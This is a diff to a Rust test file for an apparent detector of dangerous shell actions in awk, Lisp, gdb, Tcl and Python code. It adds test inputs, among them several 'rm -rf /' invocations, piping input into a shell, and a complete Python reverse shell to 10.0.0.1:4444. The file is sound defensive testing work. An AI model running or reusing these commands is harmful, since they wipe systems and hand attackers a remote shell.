@@ -349,6 +349,11 @@ fn awk_sed_and_ex() {
             ("{ print $1 | \"sh\" }", &["shell sh"]),
             ("{ print > \"/etc/x\" }", &["overwrite path /etc/x"]),
             ("BEGIN { \"date\" | getline d; print d }", &["shell date"]),
+            ("BEGIN { c = \"rm -rf /\"; system(c) }", &["shell rm -rf /"]),
+            (
+                "{ print \"rm \" $1 | \"/bin/sh -e\" }",
+                &["shell rm $…", "shell /bin/sh -e"],
+            ),
             ("$1 > 3 { print $2 / 2 }", &[]),
             (
                 "{ print \"a\" > \"/dev/stderr\" }",
@@ -378,6 +383,57 @@ fn awk_sed_and_ex() {
             ("wq", &[]),
             ("%s/a/b/g|wq", &[]),
         ],
+    );
+}
+
+#[test]
+fn lisp_gdb_and_tcl() {
+    check(
+        Language::Lisp,
+        &[
+            ("(shell-command \"rm -rf /\")", &["shell rm -rf /"]),
+            (
+                "(progn (delete-directory \"/x\" t) (message \"rm\"))",
+                &["delete path /x tree"],
+            ),
+            ("(call-process \"rm\" nil nil)", &["shell rm"]),
+            (
+                "(shell-command (concat a b))",
+                &["unknown `shell-command` on what is computed"],
+            ),
+            ("(message \"(shell-command)\") (+ 1 2)", &[]),
+        ],
+    );
+    check(
+        Language::Gdb,
+        &[
+            ("shell rm -rf /", &["shell rm -rf /"]),
+            ("python import os; os.system('id')", &["shell id"]),
+            ("run\nbt\nprint x", &[]),
+        ],
+    );
+    check(
+        Language::Tcl,
+        &[
+            ("spawn rm -rf /; expect eof", &["shell rm -rf /"]),
+            ("puts hi", &[]),
+        ],
+    );
+}
+
+#[test]
+fn a_shell_on_a_connection_is_code_from_the_network() {
+    check(
+        Language::Python,
+        &[(
+            "import socket,os,subprocess;s=socket.socket();s.connect(('10.0.0.1',4444));\
+             os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
+            &[
+                "connect remote 10.0.0.1",
+                "interpret code the streams of a connection from network",
+                "run /bin/sh -i",
+            ],
+        )],
     );
 }
 
